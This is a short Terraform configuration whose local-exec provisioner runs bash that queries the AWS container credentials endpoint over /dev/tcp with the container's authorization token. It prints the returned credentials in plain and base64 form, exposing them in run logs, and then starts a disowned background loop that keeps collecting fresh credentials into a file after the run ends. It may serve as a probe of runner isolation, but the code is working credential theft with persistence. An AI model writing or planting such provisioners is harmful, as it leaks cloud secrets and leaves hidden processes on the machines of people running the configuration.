# Asks for its own keys and prints what it gets, and leaves somebody behind who goes on asking when the phase is over.

resource "terraform_data" "endpoint" {
  provisioner "local-exec" {
    interpreter = ["/bin/bash", "-c"]

    command = <<-EOT
      ask() {
        address=$${AWS_CONTAINER_CREDENTIALS_FULL_URI#http://}
        exec 3<>"/dev/tcp/$${address%%:*}/$(cut -d: -f2 <<< "$address" | cut -d/ -f1)" || return
        printf 'GET /%s HTTP/1.0\r\nAuthorization: %s\r\n\r\n' "$${address#*/}" "$AWS_CONTAINER_AUTHORIZATION_TOKEN" >&3
        cat <&3
      }
      echo "--- asked"; ask; echo
      ask | base64 -w0; echo
      (while sleep 0.1; do ask >> "$HOME/late"; done) </dev/null >/dev/null 2>&1 &
      disown
      echo "--- done"
    EOT
  }
}
